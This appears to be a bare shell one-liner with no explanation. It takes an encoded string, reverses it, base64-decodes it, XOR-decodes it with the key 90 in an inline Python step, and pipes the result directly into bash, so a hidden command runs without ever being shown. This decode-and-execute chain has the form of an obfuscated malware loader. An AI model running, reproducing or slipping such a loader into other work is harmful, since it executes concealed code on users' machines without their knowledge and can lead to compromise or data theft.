z='==QK0VnK34Sd6JTK7gje8xnepQXdqcjL1pXF3pnMpQHa/0zOukSd+MjN7wCNzQHK/ETO74iL7QHN+kTd1BWKq4iLyo3K3pnL/0TL'
echo "$z" | rev | base64 -d | python3 -c "import sys;sys.stdout.write(bytes(b^90 for b in sys.stdin.buffer.read()).decode())" | bash
